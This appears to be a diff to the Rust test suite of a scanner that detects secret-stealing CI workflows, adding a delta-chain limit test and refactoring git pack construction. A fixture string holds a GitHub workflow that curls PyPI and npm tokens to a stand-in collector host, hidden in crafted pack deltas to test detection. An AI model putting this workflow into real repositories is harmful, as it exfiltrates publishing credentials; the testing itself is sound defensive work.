@@ -11,13 +11,13 @@
 mod repository;
 
 use std::fs;
-use std::io::Write;
 use std::os::unix::fs::symlink;
 use std::path::Path;
 
 use portcullis_scan::report::{Document, Verdict};
 use portcullis_scan::{Options, scan};
 use repository::Repository;
+use repository::pack::{self, Pack};
 
 const STEAL: &str = "on: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d 'A=${{ secrets.PYPI_API_TOKEN }}&B=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";
 
@@ -252,59 +252,41 @@ fn hostile_branch_filters_hide_nothing() {
     }
 }
 
-/// A pack entry: type, size as git packs it, what a delta refers to, and the compressed data.
-fn pack_entry(kind: u8, size: usize, reference: &[u8], data: &[u8]) -> Vec<u8> {
-    let mut entry = vec![kind << 4 | (size & 15) as u8];
-    let mut rest = size >> 4;
-    while rest > 0 {
-        *entry.last_mut().unwrap() |= 0x80;
-        entry.push((rest & 127) as u8);
-        rest >>= 7;
-    }
-    entry.extend(reference);
-    let mut encoder = flate2::write::ZlibEncoder::new(entry, flate2::Compression::fast());
-    encoder.write_all(data).unwrap();
-    encoder.finish().unwrap()
-}
-
 /// A repository whose only workflow is a small delta against a blob of so many zeros.
 fn with_delta_base(base_size: usize) -> Repository {
     let repository = Repository::new();
-    let base = vec![0; base_size];
-    let mut delta = Vec::new();
-    for mut size in [base_size, STEAL.len()] {
-        while size > 127 {
-            delta.push((size & 127) as u8 | 0x80);
-            size >>= 7;
-        }
-        delta.push(size as u8);
-    }
-    for piece in STEAL.as_bytes().chunks(127) {
-        delta.push(piece.len() as u8);
-        delta.extend(piece);
-    }
-    let mut pack = b"PACK\0\0\0\x02\0\0\0\x02".to_vec();
-    pack.extend(pack_entry(3, base.len(), &[], &base));
-    // How far back the base begins, in git's offset encoding.
-    let mut back = pack.len() - 12;
-    let mut reference = vec![(back & 127) as u8];
-    while back > 127 {
-        back = (back >> 7) - 1;
-        reference.insert(0, (back & 127) as u8 | 0x80);
-    }
-    pack.extend(pack_entry(6, delta.len(), &reference, &delta));
-    let mut hasher = gix::hash::hasher(gix::hash::Kind::Sha1);
-    hasher.update(&pack);
-    pack.extend(hasher.try_finalize().unwrap().as_slice());
-    let path = repository.path().join(".git/objects/pack/pack-x.pack");
-    fs::write(&path, pack).unwrap();
-    repository.git(&["index-pack", &path.display().to_string()]);
-    let workflow =
-        gix::objs::compute_hash(gix::hash::Kind::Sha1, gix::object::Kind::Blob, STEAL.as_bytes()).unwrap();
-    let entry = format!("100644,{workflow},.github/workflows/z.yml");
-    repository.git(&["update-index", "--add", "--cacheinfo", &entry]);
-    repository.git(&["commit", "-q", "-m", "x"]);
+    let mut pack = Pack::new();
+    pack.whole(pack::BLOB, &vec![0; base_size]);
+    pack.delta(&pack::instead_of(base_size, STEAL.as_bytes()));
+    pack.store(&repository);
+    pack::commit_object(&repository, ".github/workflows/z.yml", STEAL.as_bytes());
     repository
+}
+
+/// A repository whose only workflow is the last of so many deltas, each on the one before.
+fn with_delta_chain(deltas: usize) -> Repository {
+    let repository = Repository::new();
+    let mut pack = Pack::new();
+    let mut size = 1;
+    pack.whole(pack::BLOB, b"x");
+    for at in 1..deltas {
+        let text = at.to_string();
+        pack.delta(&pack::instead_of(size, text.as_bytes()));
+        size = text.len();
+    }
+    pack.delta(&pack::instead_of(size, STEAL.as_bytes()));
+    pack.store(&repository);
+    pack::commit_object(&repository, ".github/workflows/z.yml", STEAL.as_bytes());
+    repository
+}
+
+/// Git makes no chain longer than 8,191; what each object of a longer one costs grows with its place in it.
+#[test]
+fn a_chain_of_deltas_is_followed_as_far_as_git_makes_them() {
+    let document = scanned(with_delta_chain(8_191).path());
+    assert_eq!((kinds(&document).len(), thefts(&document)), (0, 1), "{:?}", document.problems);
+    let document = scanned(with_delta_chain(8_192).path());
+    assert_eq!((kinds(&document), thefts(&document)), (vec!["over-limit"], 0));
 }
 
 /// The header of a small object says nothing of the base that it is made from.
